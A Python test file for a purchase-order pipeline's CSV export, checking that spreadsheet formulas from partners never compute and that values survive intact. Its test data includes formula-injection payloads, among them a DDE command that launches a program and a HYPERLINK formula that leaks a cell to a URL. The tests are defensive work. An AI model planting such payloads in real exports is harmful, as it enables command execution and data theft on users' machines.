"""Lists for spreadsheets: every value comes back, no cell of a partner's computes, whatever it is called."""

import csv
import io
import subprocess
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from pipeline.cli import run
from pipeline.sheet import HELD_COLUMNS, MESSAGE_COLUMNS, ORDER_COLUMNS, cell, csv_text
from pipeline.visible import visible
from tests.conftest import require
from tests.security.hostile_texts import FOR_TERMINALS
from tests.unit.pipeline.house import house_with
from tests.unit.pipeline.ledger_files import acknowledgment, order

FORMULAS = (
    "=1+1", "=cmd|' /C calc'!A0", '=HYPERLINK("http://127.0.0.1:9/?"&A1;"x")', "+1", "-1", "-", "@SUM(1)",
    "\t=1", "\r=1", "\n=1", "\tx", "  =1", "\u00a0=1", "\u3000=1",
    "\uff1d1+1", "\uff0b1", "\uff0d1", "\uff201", '"=1"', "a,b", 'a"b', "a;b", "4500012", "00012", "",
)  # fmt: skip
SIGNS = "=+-@\uff1d\uff0b\uff0d\uff20"


@pytest.mark.parametrize("text", [*FORMULAS, *FOR_TERMINALS], ids=ascii)
def test_no_cell_computes_and_none_loses_its_text(text: str) -> None:
    made = cell(text)
    assert made.lstrip()[:1] not in tuple(SIGNS)
    assert made.isprintable()
    assert made.removeprefix("'") == visible(text).removeprefix("'")
    assert (made != visible(text)) == (text.lstrip()[:1] in tuple(SIGNS) or text[:1] in ("\t", "\r", "\n"))


@given(st.lists(st.text(), min_size=1, max_size=6))
def test_whatever_stands_in_a_row_is_one_row_of_as_many_cells(texts: list[str]) -> None:
    names = [f"c{number}" for number in range(len(texts))]
    read = list(csv.reader(io.StringIO(csv_text(names, [dict(zip(names, texts, strict=True))] * 2))))
    assert read == [names, [cell(text) for text in texts], [cell(text) for text in texts]]


def test_our_own_numbers_stay_numbers_and_nothing_is_nothing() -> None:
    row = {"id": -7, "none": None, "list": ["a", "b"]}
    assert csv_text(("id", "none", "list", "other"), [row]) == 'id,none,list,other\r\n-7,,"a, b",\r\n'


@pytest.fixture
def config(tmp_path: Path, both_systems: None) -> list[str]:
    house = house_with(tmp_path, "")
    for text in ("=1+1", "+1", "-1", "@A1", "1,5", '1"'):
        house.buyer(order(text, 5))
    house.seller("855", acknowledgment("=1+1", "ACK*IR*3*EA"))
    house.seller("855", acknowledgment("=PARKED"))
    return ["--csv", "--config", str(tmp_path / "countermand.toml")]


@pytest.mark.parametrize(
    ("command", "columns"),
    [("orders", ORDER_COLUMNS), ("held", HELD_COLUMNS), ("outbox", MESSAGE_COLUMNS)],
)
def test_a_list_is_a_table_for_spreadsheets(
    command: str, columns: tuple[str, ...], config: list[str], capsysbinary: pytest.CaptureFixture[bytes]
) -> None:
    assert run([command, *config]) == 0
    text = capsysbinary.readouterr().out.decode("utf-8")
    head, *rows = csv.reader(io.StringIO(text, newline=""))
    assert tuple(head) == columns
    assert rows
    assert text.count("\r\n") == text.count("\n") == len(rows) + 1
    assert not any(value[:1] in tuple(SIGNS) for row in rows for value in row)
    if command != "outbox":
        assert "'=1+1" in [row[head.index("po_number")] for row in rows]


def test_what_waits_is_one_table(config: list[str], capsysbinary: pytest.CaptureFixture[bytes]) -> None:
    run(["held", *config])
    rows = list(csv.DictReader(io.StringIO(capsysbinary.readouterr().out.decode("utf-8"))))
    assert [(row["waits_for"], row["po_number"]) for row in rows] == [
        ("a person", "'=1+1"), ("its order", "'=PARKED"),
    ]  # fmt: skip
    assert "ignore" in rows[0]["choices"]


def test_an_output_has_one_form(config: list[str], capsys: pytest.CaptureFixture[str]) -> None:
    for command in ("orders", "held", "outbox"):
        assert run([command, "--json", *config]) == 2
        assert "exclude each other" in capsys.readouterr().err


@pytest.mark.needs("soffice")
def test_libre_office_computes_nothing(tmp_path: Path) -> None:
    table = tmp_path / "table.csv"
    table.write_text(csv_text(("a",), [{"a": text} for text in FORMULAS]), encoding="utf-8")
    at = f"-env:UserInstallation={(tmp_path / 'profile').as_uri()}"
    command = [
        str(require("soffice")),
        at,
        "--headless",
        "--convert-to",
        "fods",
        "--outdir",
        str(tmp_path),
        str(table),
    ]
    subprocess.run(command, check=True, timeout=100)
    assert "table:formula" not in (tmp_path / "table.fods").read_text(encoding="utf-8")
